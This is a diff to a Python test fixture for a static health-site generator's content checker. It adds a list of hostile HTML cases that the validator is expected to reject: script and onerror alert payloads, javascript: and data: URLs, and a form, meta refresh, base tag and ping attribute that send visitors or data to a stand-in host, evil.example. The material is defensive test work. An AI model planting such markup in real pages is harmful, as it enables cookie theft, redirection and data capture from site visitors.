@@ -129,10 +129,11 @@ The word {DRAFT_WORD} appears only in this draft.
     "articles/draft.md": article("Text of Draft okapi.\n", Title="Draft okapi",
                                  Date="2024-01-01", Status="draft", Summary="Draft okapi."),
     "pages/draft-page.md": "Title: Draft page gnu\nStatus: draft\n\nText of Draft page gnu.\n",
-    # A hostile title and summary: text everywhere, never markup.
+    # A hostile title and summary: text everywhere, never markup (the Summary is Markdown:
+    # written as code it is text; as raw HTML it is a mistake, HOSTILE_HTML below).
     "articles/hostile.md": article("Body text of the hostile article.\n",
                                    Title=f"{PAYLOAD} <!-- x", Slug="hostile",
-                                   Summary=f"Summary {PAYLOAD} here."),
+                                   Summary=f"Summary `{PAYLOAD}` here."),
     # Built, but kept out of search engines and the sitemap.
     "pages/thanks.md": "Title: Thank you\nSlug: thanks\nRobots: noindex\nSummary: Thanks.\n\n"
                        "Thanks.\n",
@@ -155,6 +156,54 @@ NEW_FILES = [("article", "Knee pain after running"), ("page", "Our team")]
 
 
 # --- Mistakes ---------------------------------------------------------------------------
+EVIL = "https://evil.example"
+# Raw HTML outside the allow-list (plugins/common/allowed_html.py), in the body or the
+# Summary: each is an error at its line, and none of it may reach the output.
+HOSTILE_HTML = [
+    ("html-element-not-allowed", "articles/iframe.md",
+     article('Intro.\n\n<iframe src="https://www.youtube.com/embed/x"></iframe>\n'), "<iframe"),
+    ("html-element-not-allowed", "articles/script.md",
+     article("Intro.\n\n<script>alert(1)</script>\n"), "<script"),
+    ("html-element-not-allowed", "articles/meta-refresh.md",
+     article(f'Intro.\n\n<meta http-equiv="refresh" content="0; url={EVIL}/">\n'),
+     "http-equiv"),
+    ("html-element-not-allowed", "articles/form.md",
+     article(f'Intro.\n\n<form action="{EVIL}/collect" method="post">\n'
+             '<label>Your symptoms <textarea name="s"></textarea></label>\n</form>\n'),
+     "<form"),
+    ("html-element-not-allowed", "articles/formaction.md",
+     article(f'Intro.\n\n<p>Send <button formaction="{EVIL}/x">it</button></p>\n'),
+     "formaction"),
+    ("html-element-not-allowed", "articles/base.md",
+     article(f'<base href="{EVIL}/">\n\nIntro.\n'), "<base"),
+    ("html-element-not-allowed", "articles/svg-use.md",
+     article(f'Intro.\n\n<svg><use href="{EVIL}/sprite.svg#icon"></use></svg>\n'), "<svg"),
+    ("html-element-not-allowed", "articles/style-element.md",
+     article("Intro.\n\n<style>main { display: none }</style>\n"), "<style"),
+    ("html-element-not-allowed", "articles/object.md",
+     article(f'Intro.\n\n<object data="{EVIL}/x.swf"></object>\n'), "<object"),
+    ("html-attribute-not-allowed", "articles/onclick.md",
+     article('Intro.\n\n<span onmouseover="steal()">Hover</span>\n'), "onmouseover"),
+    ("html-attribute-not-allowed", "articles/onerror.md",
+     article('Intro.\n\n<img src="{static}/images/tiny.png" alt="A dot"\n'
+             '     onerror="alert(1)">\n'), "onerror"),
+    ("html-attribute-not-allowed", "articles/ping.md",
+     article(f'Intro.\n\nRead <a href="https://example.org/" ping="{EVIL}/t">it</a>.\n'),
+     "ping="),
+    ("html-attribute-not-allowed", "articles/style-attribute.md",
+     article('Intro.\n\n<p style="position: fixed; inset: 0">Covered</p>\n'), "style="),
+    ("html-attribute-not-allowed", "articles/aligned-table.md",
+     article("Intro.\n\n| Aspect | Value |\n|:-------|------:|\n| Pain | Less |\n"),
+     "|:---"),
+    ("html-attribute-not-allowed", "articles/summary-onerror.md",
+     article(Summary='A summary <img src="x" onerror="alert(1)">'), "Summary:"),
+    ("url-scheme-not-allowed", "articles/javascript-link.md",
+     article("Intro.\n\n[Click here](javascript:alert(document.cookie)).\n"), "javascript:"),
+    ("url-scheme-not-allowed", "articles/data-url.md",
+     article('Intro.\n\n<a href="data:text/html;base64,PHNjcmlwdD4=">Open</a>\n'), "data:"),
+    ("url-scheme-not-allowed", "articles/summary-javascript.md",
+     article(Summary='A summary with <a href="javascript:alert(1)">a link</a>.'), "Summary:"),
+]
 # (check name, file under content/, text or bytes, text on the reported line or None)
 MISTAKES = [
     ("not-utf8", "articles/latin1.md",
@@ -194,6 +243,8 @@ MISTAKES = [
      "no-such-heading"),
     ("missing-anchor", "articles/own-anchor.md",
      article("## Real heading\n\nJump [down](#not-here).\n"), "#not-here"),
+    ("link-to-draft", "articles/link-to-draft.md",
+     article("Intro.\n\nSee [what is coming]({filename}coming-soon.md).\n"), "coming-soon.md"),
     ("broken-link", "articles/raw-link.md",
      article("Intro.\n\nSee [our team](../no-such-page/).\n"), "no-such-page"),
     ("image-without-alt", "articles/alt.md",
@@ -203,15 +254,10 @@ MISTAKES = [
      article(Slug="do-physical-therapists-massage"), "Slug:"),
     ("duplicate-output", "pages/same-url.md", "Title: Clash\nSave_as: index.html\n\nText.\n",
      "Save_as:"),
-    ("embedded-code", "articles/iframe.md",
-     article('Intro.\n\n<iframe src="https://www.youtube.com/embed/x"></iframe>\n'), "<iframe"),
-    ("embedded-code", "articles/script.md",
-     article("Intro.\n\n<script>alert(1)</script>\n"), "<script"),
+    *HOSTILE_HTML,
     ("third-party-resource", "articles/remote-image.md",
      article('Intro.\n\n<img src="https://cdn.example.com/knee.png" alt="A knee">\n'),
      "cdn.example.com"),
-    ("inline-event-handler", "articles/onclick.md",
-     article('Intro.\n\n<span onmouseover="steal()">Hover</span>\n'), "onmouseover"),
     ("plain-http-link", "articles/http.md",
      article("Intro.\n\nSee [the study](http://example.org/study).\n"), "http://example.org"),
     ("references", "articles/reference.md",
@@ -230,6 +276,11 @@ MISTAKES = [
     ("patient-story", "pages/stories/no-results.md",
      story("no-results", (STORY.splitlines()[6] + "\n", "")), None),
 ]
+# Valid files that mistakes point at, written with them.
+MISTAKE_TARGETS = {
+    "articles/coming-soon.md": article("Not ready yet.\n", Title="Coming soon",
+                                       Slug="coming-soon", Status="draft"),
+}
 # Edits of real files: (check, file, (old, new), text on the reported line or None)
 MISTAKE_EDITS = [
     ("cross-link", "pages/services/myofascial-release.md",
